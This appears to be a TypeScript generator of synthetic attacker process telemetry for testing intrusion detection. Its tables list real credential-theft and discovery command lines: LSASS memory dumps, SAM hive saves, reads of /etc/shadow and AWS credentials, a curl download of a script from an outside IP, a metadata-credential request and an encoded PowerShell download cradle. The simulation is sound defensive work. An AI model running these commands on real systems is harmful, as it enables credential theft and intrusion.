/**
 * Intrusions planted in process data (test period only): discovery bursts after initial access
 * (a macro, a beacon in rundll32, a web shell), a low-and-slow hands-on-keyboard variant that
 * uses the same tools admins use, and credential dumping with discovery. Linux hosts get the
 * Linux equivalents (web shell or stolen SSH key).
 */
import type { Host, ProcStart } from './process';
import type { ProcDef } from './process_catalog';
import { LINUX, WIN } from './process_catalog';
import { Rng } from './rng';
import { localMidnight } from './timeline';
import { DAY, HOUR, MIN } from './time';

export const PROCESS_ATTACKS = ['discovery_burst', 'discovery_low_and_slow', 'webshell_discovery', 'credential_dumping'];

export interface ProcAttackEnv {
  startMs: number;
  testStart: number;
  endMs: number;
  trainDays: number;
  totalDays: number;
}

const S32 = 'C:\\Windows\\System32';

type Tool = [string, string, string[][]];

const WIN_DISCOVERY: Tool[] = [
  ['whoami.exe', `${S32}\\whoami.exe`, [['/all'], ['/priv'], ['/groups'], []]],
  ['net.exe', `${S32}\\net.exe`, [['user', '/domain'], ['group', '"Domain Admins"', '/domain'], ['group', '"Enterprise Admins"', '/domain'], ['localgroup', 'administrators'], ['view', '/domain'], ['accounts', '/domain'], ['share'], ['session']]],
  ['nltest.exe', `${S32}\\nltest.exe`, [['/dclist:corp.local'], ['/domain_trusts', '/all_trusts']]],
  ['ipconfig.exe', `${S32}\\ipconfig.exe`, [['/all'], ['/displaydns']]],
  ['systeminfo.exe', `${S32}\\systeminfo.exe`, [[]]],
  ['sc.exe', `${S32}\\sc.exe`, [['query'], ['query', 'type=', 'service', 'state=', 'all']]],
  ['query.exe', `${S32}\\query.exe`, [['user'], ['session']]],
  ['quser.exe', `${S32}\\quser.exe`, [[]]],
  ['tasklist.exe', `${S32}\\tasklist.exe`, [['/v'], ['/svc']]],
  ['NETSTAT.EXE', `${S32}\\NETSTAT.EXE`, [['-ano']]],
  ['ARP.EXE', `${S32}\\ARP.EXE`, [['-a']]],
  ['ROUTE.EXE', `${S32}\\ROUTE.EXE`, [['print']]],
  ['HOSTNAME.EXE', `${S32}\\HOSTNAME.EXE`, [[]]],
  ['nslookup.exe', `${S32}\\nslookup.exe`, [['-type=SRV', '_ldap._tcp.dc._msdcs.corp.local']]],
  ['WMIC.exe', `${S32}\\wbem\\WMIC.exe`, [['os', 'get', 'Caption,Version'], ['computersystem', 'get', 'domain'], ['/namespace:\\\\root\\SecurityCenter2', 'path', 'AntiVirusProduct', 'get', 'displayName'], ['process', 'list', 'brief']]],
  ['reg.exe', `${S32}\\reg.exe`, [['query', 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run'], ['query', 'HKCU\\Software\\SimonTatham\\PuTTY\\Sessions']]],
  ['cmdkey.exe', `${S32}\\cmdkey.exe`, [['/list']]],
  ['klist.exe', `${S32}\\klist.exe`, [[]]],
];

const WIN_CREDS: Tool[] = [
  ['rundll32.exe', `${S32}\\rundll32.exe`, [['C:\\Windows\\System32\\comsvcs.dll,', 'MiniDump', '724', 'C:\\ProgramData\\debug.dmp', 'full']]],
  ['procdump64.exe', 'C:\\Users\\Public\\procdump64.exe', [['-accepteula', '-ma', 'lsass.exe', 'C:\\Users\\Public\\l.dmp']]],
  ['reg.exe', `${S32}\\reg.exe`, [['save', 'HKLM\\SAM', 'C:\\ProgramData\\sam.save'], ['save', 'HKLM\\SYSTEM', 'C:\\ProgramData\\system.save'], ['save', 'HKLM\\SECURITY', 'C:\\ProgramData\\security.save']]],
  ['vssadmin.exe', `${S32}\\vssadmin.exe`, [['list', 'shadows']]],
  ['AdFind.exe', 'C:\\ProgramData\\af.exe', [['-f', '"(objectcategory=computer)"'], ['-f', '"(objectcategory=person)"'], ['-gcb', '-sc', 'trustdmp']]],
];

const LINUX_DISCOVERY: Tool[] = [
  ['id', '/usr/bin/id', [[]]],
  ['whoami', '/usr/bin/whoami', [[]]],
  ['uname', '/usr/bin/uname', [['-a']]],
  ['hostname', '/usr/bin/hostname', [['-I'], []]],
  ['cat', '/usr/bin/cat', [['/etc/passwd'], ['/etc/os-release'], ['/proc/version'], ['/etc/hosts']]],
  ['ps', '/usr/bin/ps', [['aux'], ['-ef']]],
  ['ss', '/usr/bin/ss', [['-tulpn']]],
  ['netstat', '/usr/bin/netstat', [['-antp']]],
  ['ip', '/usr/bin/ip', [['a'], ['route']]],
  ['crontab', '/usr/bin/crontab', [['-l']]],
  ['sudo', '/usr/bin/sudo', [['-l']]],
  ['find', '/usr/bin/find', [['/', '-perm', '-4000', '-type', 'f'], ['/home', '-name', 'id_rsa*'], ['/', '-name', '*.env', '-maxdepth', '4']]],
  ['ls', '/usr/bin/ls', [['-la', '/root'], ['-la', '/home'], ['-la', '/var/www']]],
  ['curl', '/usr/bin/curl', [['-s', 'http://185.220.101.47/x.sh'], ['-fsSL', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/']]],
  ['env', '/usr/bin/env', [[]]],
];

const LINUX_CREDS: Tool[] = [
  ['cat', '/usr/bin/cat', [['/etc/shadow'], ['/root/.bash_history'], ['/home/ubuntu/.aws/credentials'], ['/var/www/html/.env']]],
  ['find', '/usr/bin/find', [['/', '-name', 'id_rsa', '-o', '-name', '*.pem']]],
  ['grep', '/usr/bin/grep', [['-ri', 'password', '/etc', '/opt', '/var/www']]],
  ['base64', '/usr/bin/base64', [['-w0', '/etc/shadow']]],
];

export interface ProcessAttackPlan {
  kind: string;
  starts: ProcStart[];
}

export function planProcessAttack(kind: string, h: Host, env: ProcAttackEnv, rng: Rng): ProcessAttackPlan {
  const lo = env.trainDays + (env.totalDays - env.trainDays > 1 ? 1 : 0);
  const day = rng.int(lo, Math.max(lo, env.totalDays - 1));
  const day0 = localMidnight(env.startMs, day, h.tz);
  const linux = h.os === 'linux';
  // A web shell needs a web server; elsewhere the same slot gets a burst from another entry point.
  const k = kind === 'webshell_discovery' && !(h.role === 'server-web' || h.role === 'linux-web') ? 'discovery_burst' : kind;
  const starts: ProcStart[] = [];
  const slow = k === 'discovery_low_and_slow';
  const hour = slow ? h.sched.start + rng.float(0.5, Math.max(1, h.sched.length - 3)) : rng.chance(0.5) ? rng.float(0, 6) : rng.float(9, 22);
  let t = Math.floor(day0 + hour * HOUR);

  // The process the intruder works from.
  let shell: ProcDef;
  let shellUser: ProcStart['user'];
  if (linux) {
    const viaWeb = k === 'webshell_discovery' || (h.role === 'linux-web' && rng.chance(0.5));
    shell = viaWeb
      ? { name: 'sh', exe: '/usr/bin/dash', parent: h.role === 'linux-web' ? rng.pick(['php-fpm8.3', 'nginx']) : 'java', parentExe: h.role === 'linux-web' ? '/usr/sbin/php-fpm8.3' : '/usr/lib/jvm/java-17-openjdk-amd64/bin/java', args: [['-c', 'id']], user: 'www-data' }
      : { ...LINUX.bash, parent: 'sshd', parentExe: '/usr/sbin/sshd' };
    shellUser = viaWeb ? { name: 'www-data', id: '33' } : { name: rng.pick(['ubuntu', 'deploy', h.owner]), id: '1000' };
  } else {
    const entry = k === 'webshell_discovery' ? 'w3wp' : slow ? 'explorer' : rng.pick(['word', 'rundll32', 'wmi']);
    const parentOf: Record<string, [string, string]> = {
      w3wp: ['w3wp.exe', 'C:\\Windows\\System32\\inetsrv\\w3wp.exe'],
      explorer: ['explorer.exe', 'C:\\Windows\\explorer.exe'],
      word: ['WINWORD.EXE', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'],
      rundll32: ['rundll32.exe', `${S32}\\rundll32.exe`],
      wmi: ['WmiPrvSE.exe', `${S32}\\wbem\\WmiPrvSE.exe`],
    };
    const [pn, pe] = parentOf[entry] as [string, string];
    const usePs = slow ? rng.chance(0.5) : rng.chance(0.35);
    shell = usePs
      ? { ...WIN.userPs, parent: pn, parentExe: pe, args: [slow ? ['-NoLogo'] : ['-nop', '-w', 'hidden', '-enc', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA']] }
      : { ...WIN.userCmd, parent: pn, parentExe: pe, args: [slow ? [] : ['/c', 'C:\\ProgramData\\s.bat']] };
    shellUser =
      entry === 'w3wp'
        ? { name: 'DefaultAppPool', domain: 'IIS APPPOOL', id: 'S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415' }
        : entry === 'wmi'
          ? { name: 'SYSTEM', domain: 'NT AUTHORITY', id: 'S-1-5-18' }
          : slow && rng.chance(0.5)
            ? { name: rng.pick(['svc_backup', 'helpdesk02', 'adm_jlee']), domain: 'CORP', id: `${h.domainSid}-${rng.int(1100, 9999)}` }
            : { name: h.owner, domain: 'CORP', id: h.ownerSid };
  }
  const shellPid = rng.int(100, 16000) * 4;
  starts.push({ t, def: shell, user: shellUser, pid: shellPid });
  t += rng.int(1_000, 20_000);

  const tools = linux ? (k === 'credential_dumping' ? LINUX_DISCOVERY.slice(0, 6).concat(LINUX_CREDS) : LINUX_DISCOVERY) : k === 'credential_dumping' ? WIN_DISCOVERY.slice(0, 8).concat(WIN_CREDS) : WIN_DISCOVERY;
  const n = slow ? rng.int(5, 9) : k === 'credential_dumping' ? rng.int(8, 16) : rng.int(12, 35);
  const gap: [number, number] = slow ? [8 * MIN, 35 * MIN] : [1_500, 45_000];
  const parentName = shell.name;
  const parentExe = shell.exe;
  for (let i = 0; i < n; i++) {
    const [name, exe, argsList] = i < 3 && k === 'credential_dumping' ? (tools[i] as Tool) : rng.pick(tools);
    const args = rng.pick(argsList);
    const pid = rng.int(100, 16000) * 4;
    const def: ProcDef = { name, exe, parent: parentName, parentExe, args: [args], user: 'owner' };
    starts.push({ t, def, args, user: shellUser, parentPid: shellPid, pid });
    // net.exe hands its work to net1.exe, as on a real system.
    if (name === 'net.exe') starts.push({ t: t + rng.int(20, 200), def: { name: 'net1.exe', exe: `${S32}\\net1.exe`, parent: 'net.exe', parentExe: exe, args: [args], user: 'owner' }, args, user: shellUser, parentPid: pid });
    if (!linux && !slow && rng.chance(0.3)) starts.push({ t: t + rng.int(5, 50), def: { ...WIN.conhostCmd }, user: shellUser, parentPid: shellPid });
    t += rng.int(gap[0], gap[1]);
  }
  // Keep it inside the test window (whole-day shifts keep the hour).
  const first = Math.min(...starts.map((s) => s.t));
  const last = Math.max(...starts.map((s) => s.t));
  let shift = 0;
  if (first < env.testStart) shift = Math.ceil((env.testStart - first) / DAY) * DAY;
  if (last + shift >= env.endMs) shift -= Math.ceil((last + shift - env.endMs + 1) / DAY) * DAY;
  if (first + shift < env.testStart) shift = env.testStart - first + MIN;
  for (const s of starts) s.t += shift;
  return { kind: k, starts: starts.filter((s) => s.t >= env.testStart && s.t < env.endMs) };
}
